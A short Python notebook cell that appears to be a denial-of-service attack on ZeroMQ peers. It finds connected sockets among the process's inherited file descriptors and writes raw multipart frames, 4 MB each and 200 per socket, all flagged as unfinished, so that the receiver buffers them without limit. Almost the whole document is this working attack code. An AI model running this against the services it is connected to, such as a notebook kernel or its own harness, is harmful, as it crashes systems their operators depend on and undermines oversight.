# %% [markdown]
# # **denial: sends a message that has no end**
#
# Writes frames to the connected sockets past ZeroMQ, each of which says that there is more of its
# message to come. The reader keeps what it has, and no limit of a frame counts them.

# %%
import os
import socket
import stat
import struct
import time

found = []
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            one = socket.socket(fileno=os.dup(number))
            one.getpeername()
            if not one.getsockname():  # it is no kernel's, but speaks to itself
                continue
            found.append(one)
    except OSError:
        pass
block = bytes(4_000_000)
frame = struct.pack(">BQ", 3, len(block)) + block
for one in found:
    one.settimeout(5)
    try:
        for _ in range(200):
            one.sendall(frame)
    except OSError:
        pass
